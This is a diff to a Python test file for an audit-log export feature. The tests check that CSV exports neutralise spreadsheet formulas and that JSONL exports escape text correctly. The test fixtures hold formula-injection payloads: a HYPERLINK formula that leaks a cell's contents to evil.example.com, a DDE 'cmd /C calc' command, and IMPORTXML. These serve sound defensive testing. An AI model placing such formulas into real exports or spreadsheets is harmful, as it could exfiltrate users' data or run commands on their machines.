@@ -42,12 +42,14 @@ ALERT_FIELDS = {"id", "type", "occurred_at", "tenant_id", "severity", "summary",
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 CLIENT_IP = "198.51.100.81"
 HYPERLINK = '=HYPERLINK("http://evil.example.com/?leak="&A1,"Click me")'
-# (user_agent, actor_id, target_type, target_id): every cell a spreadsheet would run.
+# (user_agent, actor_id, target_id): every cell a spreadsheet would run, and text that JSON
+# must escape. Target types are identifiers, which the table itself checks.
 INJECTIONS = [
-    (HYPERLINK, "u-plain", "member", "t-plain"),
-    ("+SUM(1,2)", "-2+3", "@cmd", "=1+1"),
-    ("-cmd|' /C calc'!A0", "@SUM(A1:A2)", "+x", "-y"),
-    ("@IMPORTXML(A1)", "=NOW()", "=t", "@t"),
+    (HYPERLINK, "u-plain", "t-plain"),
+    ("+SUM(1,2)", "-2+3", "=1+1"),
+    ("-cmd|' /C calc'!A0", "@SUM(A1:A2)", "-y"),
+    ("@IMPORTXML(A1)", "=NOW()", "@t"),
+    ('quote " back\\slash \t tab \u00e9t\u00e9 \u2603', 'id "quoted"', "line\nbreak"),
 ]
 
 
@@ -77,11 +79,12 @@ def seeded(stack: LocalStack) -> Seeded:
                 details={"n": n, "email": f"x{n}@example.com", "nested": {"b": 1, "a": [n]}}))
         audit_log.record(db, AuditRecord(action="auth.logout", actor=Actor("system"),
                                          tenant_id=tenant))  # no target, ip or agent
-        for n, (agent, actor_id, target_type, target_id) in enumerate(INJECTIONS):
+        for n, (agent, actor_id, target_id) in enumerate(INJECTIONS):
             event = audit_log.record(db, AuditRecord(
                 action="auth.login_failed", actor=Actor("user", actor_id), tenant_id=tenant,
-                severity=Severity.warning, target=Target(target_type, target_id),
-                origin=Origin("2001:db8::7", agent), details={"note": "=1+1", "n": n}))
+                severity=Severity.warning, target=Target("member", target_id),
+                origin=Origin("2001:db8::7", agent),
+                details={"note": "=1+1", "n": n, "text": 'a "b" \\ \n \u00e9 \u0001 \u2028 \x85'}))
             injected.append(str(event.id))
     until = datetime.now(UTC) + timedelta(milliseconds=1)
     time.sleep(0.01)  # later events (the exports' own) fall after `until`
@@ -206,7 +209,7 @@ def test_jsonl_export_equals_the_query(app: Flask, seeded: Seeded) -> None:
     assert response.headers["Content-Type"].startswith("application/x-ndjson")
     text = response.get_data(as_text=True)
     assert text.endswith("\n")
-    lines = [json.loads(line) for line in text.splitlines()]
+    lines = [json.loads(line) for line in text.split("\n")[:-1]]  # JSONL splits on \n only
     expected = _query(client, seeded.since, seeded.until)
     assert len(expected) == 23 + 1 + len(INJECTIONS)
     assert len(lines) == len(expected) == job["result"]["rows"]
@@ -226,13 +229,17 @@ def test_jsonl_export_equals_the_query(app: Flask, seeded: Seeded) -> None:
     assert gone.get_json()["code"] == "link_expired"
 
 
-def _expected_csv_row(item: dict[str, Any]) -> list[str]:
+def _expected_csv_row(item: dict[str, Any]) -> list[Any]:
+    """The API's item as a CSV row; the details cell is compared as the JSON it holds."""
     target = item["target"] or {}
     cells = [item["id"], item["occurred_at"], item["action"], item["severity"],
              item["actor"]["type"], item["actor"]["id"] or "", target.get("type") or "",
-             target.get("id") or "", item["ip"] or "", item["user_agent"] or "",
-             json.dumps(item["details"], sort_keys=True, separators=(",", ":"))]
-    return ["'" + c if c.startswith(FORMULA_STARTS) else c for c in cells]
+             target.get("id") or "", item["ip"] or "", item["user_agent"] or ""]
+    return ["'" + c if c.startswith(FORMULA_STARTS) else c for c in cells] + [item["details"]]
+
+
+def _parsed(row: list[str]) -> list[Any]:
+    return [*row[:-1], json.loads(row[-1])]
 
 
 def test_csv_export_equals_the_query_and_defuses_formulas(app: Flask, seeded: Seeded) -> None:
@@ -248,19 +255,21 @@ def test_csv_export_equals_the_query_and_defuses_formulas(app: Flask, seeded: Se
 
     expected = _query(client, seeded.since, seeded.until)
     assert len(rows) == len(expected) == job["result"]["rows"]
-    assert {r[0]: r for r in rows} == {i["id"]: _expected_csv_row(i) for i in expected}
+    assert {r[0]: _parsed(r) for r in rows} == {i["id"]: _expected_csv_row(i) for i in expected}
 
     for row in rows:
         for cell in row:
             assert not cell.startswith(FORMULA_STARTS), (cell, row)
     cells = {r[0]: dict(zip(CSV_HEADER, r, strict=True)) for r in rows}
-    first, second, third, fourth = (cells[i] for i in seeded.injected)
+    first, second, third, fourth, fifth = (cells[i] for i in seeded.injected)
     assert first["user_agent"] == "'" + HYPERLINK
     assert second["user_agent"] == "'+SUM(1,2)" and second["actor_id"] == "'-2+3"
-    assert second["target_type"] == "'@cmd" and second["target_id"] == "'=1+1"
+    assert second["target_type"] == "member" and second["target_id"] == "'=1+1"
     assert third["user_agent"] == "'-cmd|' /C calc'!A0" and third["target_id"] == "'-y"
     assert fourth["user_agent"] == "'@IMPORTXML(A1)" and fourth["actor_id"] == "'=NOW()"
-    assert json.loads(first["details"]) == {"note": "=1+1", "n": 0}
+    assert json.loads(first["details"])["note"] == "=1+1"
+    assert fifth["actor_id"] == 'id "quoted"' and fifth["target_id"] == "line\nbreak"
+    assert fifth["user_agent"] == INJECTIONS[4][0]
     untouched = next(c for c in cells.values() if c["user_agent"] == "export-test/0")
     assert untouched["actor_id"] == "actor-0" and untouched["target_id"] == "m0"
 
@@ -350,7 +359,7 @@ def test_cli_export_writes_the_same_rows(app: Flask, stack: LocalStack, seeded: 
     # worker's own alert bookkeeping recorded after the command took its snapshot.
     assert set(by_id) <= set(api_by_id)
     for event_id, row in by_id.items():
-        assert row == _expected_csv_row(api_by_id[event_id])
+        assert _parsed(row) == _expected_csv_row(api_by_id[event_id])
     for event_id in set(api_by_id) - set(by_id):
         late = api_by_id[event_id]
         assert late["action"].startswith("alert."), late
